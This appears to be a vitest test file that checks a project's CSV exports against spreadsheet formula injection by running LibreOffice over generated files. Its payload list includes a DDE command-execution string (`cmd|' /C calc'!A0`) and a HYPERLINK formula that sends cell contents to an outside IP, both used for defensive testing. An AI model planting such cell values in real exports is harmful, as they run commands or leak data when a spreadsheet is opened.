import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findDataSet } from '@evenborn/core/cycle/dataSets'
import { csvOf } from '@evenborn/core/vocabulary/csv'
import { writeContentCsv } from '@evenborn/desk/cycle/contentCsv'
import { reportCsv as deskReportCsv } from '@evenborn/desk/intake/report'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { frameOf } from './contents.ts'
import { figure } from './promises.ts'
import { sourceFiles } from './sources.ts'

/* What is written into a cell by somebody must not run when somebody else opens the file. */

const begins = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '　=', '"=', "'=", '|', '%']
const bodies = ['1+1', 'SUM(1;2)', `cmd|' /C calc'!A0`, 'HYPERLINK("http://203.0.113.77/?"&A1;"x")']
const payloads = begins.flatMap((begin) => bodies.map((body) => `${begin}${body}`))

const office = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path))
let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'evenborn-exports-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** Formulas in each file, as LibreOffice understands it: what it opens is written out with its formulas. */
async function formulasOf(files: Record<string, string>): Promise<Record<string, number>> {
  const paths = Object.keys(files).map((name) => join(folder, `${name}.csv`))
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, `${name}.csv`), text)
  const args = [
    '--headless',
    `-env:UserInstallation=file://${folder}/profile`,
    '--convert-to',
    'fods',
    '--outdir',
    folder,
    ...paths,
  ]
  const ran = spawnSync(office!, args, { encoding: 'utf8', timeout: 50_000 })
  const found: Record<string, number> = {}
  for (const name of Object.keys(files)) {
    const written = await readFile(join(folder, `${name}.fods`), 'utf8').catch(() => {
      throw new Error(`not converted: ${ran.stderr}`)
    })
    found[name] = written.match(/table:formula=/g)?.length ?? 0
  }
  return found
}

test.runIf(office)(
  '[F4] sixty cells that would run, in every export: LibreOffice finds no formula',
  async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60)
    const finding = (written: string) =>
      ({ code: 'sex-unknown', severity: 'error', row: 2, column: written, written }) as unknown as Parameters<
        typeof deskReportCsv
      >[0][number]
    const household = findDataSet('HUKOU_M')!
    const townships = payloads.map((name, at) => ({ code: `430102${String(at).padStart(3, '0')}`, name }))
    const registrations = townships.map(({ code }) => ({ township: code, 'birth-month': '=1+1', delay: '@x', boys: 1 }))
    const returned = writeContentCsv(household, { registrations }, { ...frameOf(household), areas: townships })
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
    const found = await formulasOf({
      raw: payloads.map(quoted).join('\r\n'),
      tables: csvOf(payloads.map((payload) => [payload, 1, payload])),
      findings: deskReportCsv(payloads.map(finding), 'zh'),
      returned: new TextDecoder('gb18030').decode(returned),
    })
    figure('F4', {
      payloads: payloads.length,
      evaluated: (found.tables ?? 0) + (found.findings ?? 0) + (found.returned ?? 0),
    })
    console.log(`[F4] ${payloads.length} payloads: formulas ${JSON.stringify(found)}`)
    // As they were written some of them do run: the opener is one that would.
    expect(found.raw).toBeGreaterThan(0)
    expect([found.tables, found.findings, found.returned]).toEqual([0, 0, 0])
  },
  60_000,
)

test('[F4] every table that the product writes for a spreadsheet has its texts made safe by one function', () => {
  const writers = sourceFiles().filter(
    ({ path, text }) =>
      /^(core|desk|server|web)\/src\//.test(path) &&
      !/\.test\.tsx?$/.test(path) &&
      /\.join\(('|"|`)(\\r\\n|,)\1\)/.test(text) &&
      /csv/i.test(text),
  )
  const alone = writers.filter(
    ({ path, text }) => path !== 'core/src/vocabulary/csv.ts' && !/vocabulary\/csv'/.test(text),
  )
  expect(alone.map(({ path }) => path)).toEqual([])
  expect(writers.length).toBeGreaterThanOrEqual(3)
})
